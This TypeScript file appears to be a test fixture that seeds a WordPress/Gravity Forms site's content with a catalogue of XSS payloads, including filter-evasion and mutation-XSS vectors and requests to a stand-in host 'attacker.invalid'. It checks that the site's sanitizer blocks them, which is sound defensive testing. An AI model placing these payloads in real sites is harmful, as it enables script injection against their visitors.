/**
 * Hostile content: the fixture content with classic XSS payloads in
 * every field the content model marks as HTML, for e2e/hostile-content.build.ts (a build of the
 * site from it) and the sanitizer's unit tests.
 *
 * Which fields get payloads is derived, not listed, so a new field is covered by itself:
 * - ACF: every wysiwyg field of every flexible-content layout, walked through its repeaters and
 *   groups (src/model/model.ts LAYOUTS), on pages, posts and fragments; text and textarea
 *   fields get the text payload (React must print it as text); link fields a script URL.
 * - WordPress core: the post excerpt (WPGraphQL serves it rendered, as HTML) and page/post titles
 *   (WordPress allows markup in titles; the site prints them as text and in JSON-LD).
 * - Gravity Forms: every string of a form, field, input and choice that is text a visitor reads
 *   (labels, descriptions, the consent label, HTML blocks, choice texts, placeholders, error
 *   messages, the submit button, confirmation messages). Keys that steer the form instead
 *   (types, values, ids, formats …) are listed in GF_STRUCTURAL_KEYS; a string key in neither
 *   set fails `hostileContent` (and so its unit test), so a new form setting cannot slip by.
 *
 * Every payload that runs announces itself with alert('xss:<id>') or a request to ATTACKER_ORIGIN,
 * which the e2e test watches for. Vectors are from the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), the
 * HTML5 Security Cheatsheet (https://html5sec.org/) and DOMPurify's mXSS reports
 * (https://github.com/cure53/DOMPurify/security/advisories, e.g. the 2.0.0 namespace confusion
 * `<form><math><mtext></form><form><mglyph><style></math><img src onerror=…>`).
 */
import { type AcfField } from '../../src/model/fields.ts';
import { LAYOUTS } from '../../src/model/model.ts';
import { formatTypeName, graphqlNameOf } from '../../src/model/naming.ts';
import type { Block, Content, GfForm } from './types.ts';

/** Where a payload that got to run would send its request (`.invalid` never resolves; the test routes it). */
export const ATTACKER_ORIGIN = 'http://attacker.invalid';
const A = ATTACKER_ORIGIN;

export interface Payload {
  id: string;
  html: string;
}

/** Each vector on its own: the sanitizer's unit test runs them one by one. */
export const XSS_PAYLOADS: readonly Payload[] = [
  { id: 'script', html: `<script>alert('xss:script')</script>` },
  { id: 'script-src', html: `<script src="${A}/script-src.js"></script>` },
  { id: 'script-case', html: `<ScRiPt>alert('xss:script-case')</sCrIpT>` },
  { id: 'img-onerror', html: `<img src=x onerror="alert('xss:img-onerror')">` },
  { id: 'img-onerror-unquoted', html: `<IMG SRC=/ onerror=alert('xss:img-onerror-unquoted')>` },
  { id: 'img-javascript', html: `<img src="javascript:alert('xss:img-javascript')">` },
  { id: 'svg-onload', html: `<svg onload="alert('xss:svg-onload')"><circle r="4"/></svg>` },
  { id: 'svg-script', html: `<svg><script>alert('xss:svg-script')</script></svg>` },
  {
    id: 'svg-animate',
    html: `<svg><a><animate attributeName="href" values="javascript:alert('xss:svg-animate')"/><text y="20">x</text></a></svg>`,
  },
  {
    id: 'svg-use',
    html: `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x"/></svg>`,
  },
  { id: 'input-autofocus', html: `<input autofocus onfocus="alert('xss:input-autofocus')">` },
  { id: 'details-ontoggle', html: `<details open ontoggle="alert('xss:details-ontoggle')"><summary>x</summary></details>` },
  { id: 'body-onload', html: `<body onload="alert('xss:body-onload')">` },
  { id: 'video-source-onerror', html: `<video><source onerror="alert('xss:video-source-onerror')"></video>` },
  { id: 'a-onmouseover', html: `<a href="/" onmouseover="alert('xss:a-onmouseover')" onfocus="alert('xss:a-onfocus')" autofocus>x</a>` },
  { id: 'a-javascript', html: `<a href="javascript:alert('xss:a-javascript')">a</a>` },
  { id: 'a-javascript-case', html: `<a href="JaVaScRiPt:alert('xss:a-javascript-case')">a</a>` },
  {
    id: 'a-javascript-decimal',
    html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss:a-javascript-decimal')">a</a>`,
  },
  { id: 'a-javascript-hex', html: `<a href="&#x6A;avascript&colon;alert('xss:a-javascript-hex')">a</a>` },
  { id: 'a-javascript-padded', html: `<a href="&#0000106&#0000097vascript:alert('xss:a-javascript-padded')">a</a>` },
  { id: 'a-javascript-tab', html: `<a href="jav\tascript:alert('xss:a-javascript-tab')">a</a>` },
  { id: 'a-javascript-tab-entity', html: `<a href="jav&#x09;ascript:alert('xss:a-javascript-tab-entity')">a</a>` },
  { id: 'a-javascript-newline', html: `<a href="java\nscript:alert('xss:a-javascript-newline')">a</a>` },
  { id: 'a-javascript-control', html: `<a href=" &#14; javascript:alert('xss:a-javascript-control')">a</a>` },
  { id: 'a-vbscript', html: `<a href="vbscript:msgbox('xss:a-vbscript')">a</a>` },
  { id: 'a-data', html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzOmEtZGF0YScpPC9zY3JpcHQ+">a</a>` },
  {
    id: 'a-formaction',
    html: `<form action="${A}/form"><button formaction="javascript:alert('xss:a-formaction')">go</button><input type="image" src="${A}/input-image.png"></form>`,
  },
  { id: 'iframe-srcdoc', html: `<iframe srcdoc="&lt;script&gt;parent.alert('xss:iframe-srcdoc')&lt;/script&gt;"></iframe>` },
  { id: 'iframe-javascript', html: `<iframe src="javascript:alert('xss:iframe-javascript')"></iframe>` },
  { id: 'iframe-remote', html: `<iframe src="${A}/iframe.html"></iframe>` },
  { id: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=javascript:alert('xss:meta-refresh')">` },
  { id: 'meta-refresh-remote', html: `<meta http-equiv="refresh" content="0;url=${A}/meta-refresh">` },
  { id: 'style-url', html: `<p style="background-image:url(&quot;javascript:alert('xss:style-url')&quot;)">p</p>` },
  { id: 'style-expression', html: `<div style="width: expression(alert('xss:style-expression'))">d</div>` },
  { id: 'style-remote', html: `<p style="background:url(${A}/style-remote.png)">p</p>` },
  { id: 'style-element', html: `<style>@import '${A}/style-element.css'; body { background: url("${A}/style-body.png") }</style>` },
  { id: 'link-stylesheet', html: `<link rel="stylesheet" href="${A}/link.css">` },
  { id: 'base-href', html: `<base href="${A}/">` },
  { id: 'object-data', html: `<object data="javascript:alert('xss:object-data')"></object><object data="${A}/object.swf"></object>` },
  { id: 'embed-src', html: `<embed src="${A}/embed.swf"><embed src="javascript:alert('xss:embed-src')">` },
  { id: 'img-srcset', html: `<img src="/x.png" srcset="${A}/srcset.png 1x">` },
  { id: 'mxss-noscript', html: `<noscript><p title="</noscript><img src=x onerror=alert('xss:mxss-noscript')>"></noscript>` },
  { id: 'mxss-svg-style', html: `<svg></p><style><a id="</style><img src=1 onerror=alert('xss:mxss-svg-style')>">` },
  {
    id: 'mxss-math',
    html: `<math><mtext><table><mglyph><style><img src=x onerror=alert('xss:mxss-math')></style></mglyph></table></mtext></math>`,
  },
  { id: 'mxss-form-math', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('xss:mxss-form-math')>` },
  {
    id: 'mxss-template',
    html: `<template><img src=x onerror=alert('xss:mxss-template')></template><textarea><img src=x onerror=alert('xss:mxss-textarea')></textarea>`,
  },
  { id: 'mxss-comment', html: `<!--><img src=x onerror=alert('xss:mxss-comment')>-->` },
  { id: 'mxss-cdata', html: `<![CDATA[><img src=x onerror=alert('xss:mxss-cdata')>]]>` },
  { id: 'attribute-breakout', html: `<a title="&quot; onmouseover=&quot;alert('xss:attribute-breakout')" href="/">t</a>` },
  { id: 'img-dimension-breakout', html: `<img src="/x.png" width="1 onerror=alert('xss:img-dimension-breakout')" alt="x">` },
];

/** All vectors in one string: what each HTML field of the hostile content holds. */
export const XSS_KIT = XSS_PAYLOADS.map((payload) => `<p>[${payload.id}]</p>${payload.html}`).join('\n');

/** For fields React prints as text: markup and a script-tag breakout that must stay text (also in JSON-LD and <title>). */
export const TEXT_PAYLOAD = `xss-text "><img src=x onerror=alert('xss:text')></script><script>alert('xss:text-script')</script>`;

/** Script URLs for link fields (the build turns them into null; the Link component refuses them too). */
export const URL_PAYLOADS: readonly string[] = [
  `javascript:alert('xss:link')`,
  ` JaVa\tScRiPt:alert('xss:link-mixed')`,
  `&#106;avascript:alert('xss:link-entity')`,
  `data:text/html,<script>alert('xss:link-data')</script>`,
  `vbscript:msgbox('xss:link-vbscript')`,
];

/**
 * Gravity Forms keys whose strings steer the form (or pick from a list) rather than being text a
 * visitor reads; they keep their values so the forms still work. Every other string key gets a payload.
 */
export const GF_STRUCTURAL_KEYS: ReadonlySet<string> = new Set([
  // form, field, input, choice
  'type',
  'labelPlacement',
  'visibility',
  'cssClass',
  'value',
  'id',
  'key',
  'name',
  'dateFormat',
  'defaultCountry',
  'defaultProvince',
  'defaultState',
  // conditional logic
  'actionType',
  'logicType',
  'operator',
  // confirmations (a REDIRECT url is a URL: it gets a URL payload, see hostileForm)
  'url',
  'queryString',
]);

/** Gravity Forms keys holding text a visitor reads; HTML_KEYS among them are HTML in Gravity Forms. */
export const GF_TEXT_KEYS: ReadonlySet<string> = new Set([
  'title',
  'description',
  'label',
  'customLabel',
  'errorMessage',
  'placeholder',
  'checkboxLabel',
  'content',
  'text',
  'message',
]);
/** GF renders these as HTML (form description, field description, consent label, HTML block, confirmation message). */
export const GRAVITY_FORMS_HTML_KEYS: ReadonlySet<string> = new Set(['description', 'checkboxLabel', 'content', 'message']);
/** Not part of the rendered form (mails to the site owner): left as they are. */
const GF_SKIPPED_KEYS: ReadonlySet<string> = new Set(['notifications', 'conditionalLogic', 'allowedExtensions', 'listColumns']);

export interface HostileContent {
  content: Content;
  /** Where payloads went, as paths ('pages[3].blocks[1].description (wysiwyg)'), for the report and the coverage test. */
  filled: string[];
}

type Row = Record<string, unknown>;
const isRow = (value: unknown): value is Row => typeof value === 'object' && value !== null && !Array.isArray(value);

/**
 * Fills the fields of one block's layout (or a repeater row / group) by their ACF type. A field
 * the fixture leaves empty gets a payload too: an editor can fill any field.
 */
function fillAcfFields(row: Row, fields: readonly AcfField[], at: string, filled: string[], linkIndex: { next: number }) {
  for (const field of fields) {
    const key = graphqlNameOf(field);
    const where = `${at}.${key}`;
    switch (field.type) {
      case 'wysiwyg':
        row[key] = XSS_KIT;
        filled.push(`${where} (wysiwyg)`);
        break;
      case 'text':
      case 'textarea':
        // section_id becomes an element id and typeform_id an embed id: text payloads there would only change what is embedded.
        if (key === 'sectionId' || key === 'typeformId') break;
        row[key] = TEXT_PAYLOAD;
        filled.push(`${where} (${field.type})`);
        break;
      case 'link': {
        const link = row[key];
        if (isRow(link)) {
          link.url = URL_PAYLOADS[linkIndex.next++ % URL_PAYLOADS.length];
          link.title = TEXT_PAYLOAD;
          filled.push(`${where} (link)`);
        }
        break;
      }
      case 'repeater': {
        const rows = row[key];
        if (Array.isArray(rows))
          rows.forEach((item, index) => isRow(item) && fillAcfFields(item, field.shape!.fields, `${where}[${index}]`, filled, linkIndex));
        break;
      }
      case 'group': {
        const group = row[key];
        if (isRow(group)) fillAcfFields(group, field.shape!.fields, where, filled, linkIndex);
        break;
      }
      default:
        break;
    }
  }
}

function fillBlocks(blocks: Block[], at: string, filled: string[], linkIndex: { next: number }) {
  blocks.forEach((block, index) => {
    const layout = LAYOUTS.find((candidate) => formatTypeName(candidate.name) === block.kind);
    if (!layout) throw new Error(`${at}[${index}]: no layout for block kind ${block.kind}`);
    fillAcfFields(block as unknown as Row, layout.fields, `${at}[${index}]`, filled, linkIndex);
  });
}

/** Every visitor-facing string of a form (recursively), by key; throws on a string key it does not know. */
function fillForm(value: unknown, at: string, filled: string[]) {
  if (Array.isArray(value)) {
    value.forEach((item, index) => fillForm(item, `${at}[${index}]`, filled));
    return;
  }
  if (!isRow(value)) return;
  for (const [key, item] of Object.entries(value)) {
    if (GF_SKIPPED_KEYS.has(key)) continue;
    if (typeof item === 'string') {
      if (GF_STRUCTURAL_KEYS.has(key)) continue;
      if (!GF_TEXT_KEYS.has(key))
        throw new Error(
          `${at}.${key}: a Gravity Forms string setting hostile.ts does not know; add it to GF_TEXT_KEYS or GF_STRUCTURAL_KEYS`,
        );
      value[key] = GRAVITY_FORMS_HTML_KEYS.has(key) ? XSS_KIT : TEXT_PAYLOAD;
      filled.push(`${at}.${key} (${GRAVITY_FORMS_HTML_KEYS.has(key) ? 'html' : 'text'})`);
    } else {
      fillForm(item, `${at}.${key}`, filled);
    }
  }
}

/**
 * A form with payloads everywhere a visitor reads, HTML-holding settings given even where the
 * fixture left them out (a description on every field, a message on every MESSAGE confirmation),
 * and a REDIRECT confirmation pointed at a script URL.
 */
function hostileForm(form: GfForm, at: string, filled: string[]): GfForm {
  const copy = structuredClone(form);
  copy.description ??= '';
  for (const field of copy.fields) {
    field.description ??= '';
    if (field.type === 'consent') field.checkboxLabel ??= '';
  }
  for (const confirmation of copy.confirmations) {
    if (confirmation.type === 'MESSAGE') confirmation.message ??= '';
    else {
      confirmation.url = URL_PAYLOADS[0]!;
      confirmation.queryString = '';
      filled.push(`${at}.confirmations.${confirmation.id}.url (redirect url)`);
    }
  }
  fillForm(copy, at, filled);
  return copy;
}

/** The fixture content with payloads in every HTML field (and text in every text field), see above. */
export function hostileContent(source: Content): HostileContent {
  const content = structuredClone(source);
  const filled: string[] = [];
  const linkIndex = { next: 0 };
  content.pages.forEach((page, index) => {
    page.title = `${page.title} ${TEXT_PAYLOAD}`;
    fillBlocks(page.blocks, `pages[${index}].blocks`, filled, linkIndex);
  });
  content.posts.forEach((post, index) => {
    post.title = `${post.title} ${TEXT_PAYLOAD}`;
    post.excerpt = XSS_KIT;
    filled.push(`posts[${index}].excerpt (html)`);
    fillBlocks(post.blocks, `posts[${index}].blocks`, filled, linkIndex);
  });
  content.fragments.forEach((fragment, index) => fillBlocks(fragment.blocks, `fragments[${index}].blocks`, filled, linkIndex));
  content.forms = content.forms.map((form, index) => hostileForm(form, `forms[${index}]`, filled));
  return { content, filled };
}
